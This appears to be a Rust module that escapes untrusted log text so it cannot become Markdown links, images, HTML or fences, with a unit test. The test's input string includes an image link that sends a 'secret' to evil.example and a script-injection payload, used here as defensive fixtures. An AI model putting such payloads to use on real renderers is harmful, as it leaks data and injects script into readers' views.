//! Markdown that log content cannot break out of. Attacker-written text is escaped so it renders as the
//! same characters and nothing else: no links, images, HTML, headings, tables or code fences.

/// Free text, for anywhere but the start of a line: backslash-escapes every character that can open
/// inline markup in CommonMark or GitHub's extensions (emphasis, code, links and images, raw HTML,
/// autolinks of URLs, `www.` and emails, strikethrough, math, table pipes), writes `&` as an entity so
/// no entity is decoded, and flattens line breaks and control characters (so no block construct can
/// start). Characters that only matter at a line start (`#`, `-`, `+`, digits) are left readable.
pub(crate) fn text(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    let chars: Vec<char> = s.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let prev = i.checked_sub(1).map(|j| chars[j]);
        let next = chars.get(i + 1).copied();
        match c {
            // Inside a word `_` cannot open or close emphasis: `tool_name` stays readable.
            '_' if prev.is_some_and(char::is_alphanumeric)
                && next.is_some_and(char::is_alphanumeric) =>
            {
                out.push('_')
            }
            // Only `scheme://` makes an autolink of a colon.
            ':' if next != Some('/') => out.push(':'),
            '&' => out.push_str("&amp;"),
            '\n' | '\r' | '\t' => out.push(' '),
            // Controls, and invisible or reordering characters: shown, not obeyed.
            c if crate::is_deceptive_char(c) => out.push('\u{FFFD}'),
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '!' | '|' | '~' | ':' | '@' | '$' => {
                out.push('\\');
                out.push(c);
            }
            // `www.` starts an autolink without a scheme.
            '.' if out.to_ascii_lowercase().ends_with("www") => out.push_str("\\."),
            c => out.push(c),
        }
    }
    out
}

/// An inline code span holding `s` literally: fenced with one more backtick than the longest run
/// inside, control characters and line breaks flattened. Not for table cells (GFM splits cells at `|`
/// even inside code); use [`text`] there.
pub(crate) fn code(s: &str) -> String {
    let flat: String = s
        .chars()
        .map(|c| match c {
            '\n' | '\t' => ' ',
            c if crate::is_deceptive_char(c) => '\u{FFFD}',
            c => c,
        })
        .collect();
    let mut longest = 0;
    let mut run = 0;
    for c in flat.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let fence = "`".repeat(longest + 1);
    let pad = if flat.starts_with('`') || flat.ends_with('`') || longest > 0 {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{flat}{pad}{fence}")
}

/// Text cut to `max` characters (before escaping), with an ellipsis.
pub(crate) fn short(s: &str, max: usize) -> String {
    if s.chars().count() > max {
        let cut: String = s.chars().take(max).collect();
        format!("{}…", text(&cut))
    } else {
        text(s)
    }
}

#[cfg(test)]
mod tests {
    use super::text;

    #[test]
    fn log_text_cannot_become_markup() {
        let hostile = "www.x ![x](https://evil.example/?d=secret) <script>alert(1)</script> | col | `code` # h\n---";
        let safe = text(hostile);
        for bad in ["\n", "https:", "www.x"] {
            assert!(!safe.contains(bad), "{bad} survived in {safe}");
        }
        // Every markup character is escaped where it stands.
        for (i, c) in safe.char_indices() {
            if "[]<>|`!".contains(c) {
                assert_eq!(&safe[i - 1..i], "\\", "unescaped {c} in {safe}");
            }
        }
        assert!(safe.contains(r"\<script\>"));
        assert_eq!(text("a & b"), "a &amp; b");
        assert_eq!(super::code("a``b"), "``` a``b ```");
        assert_eq!(super::code("plain"), "`plain`");
    }
}
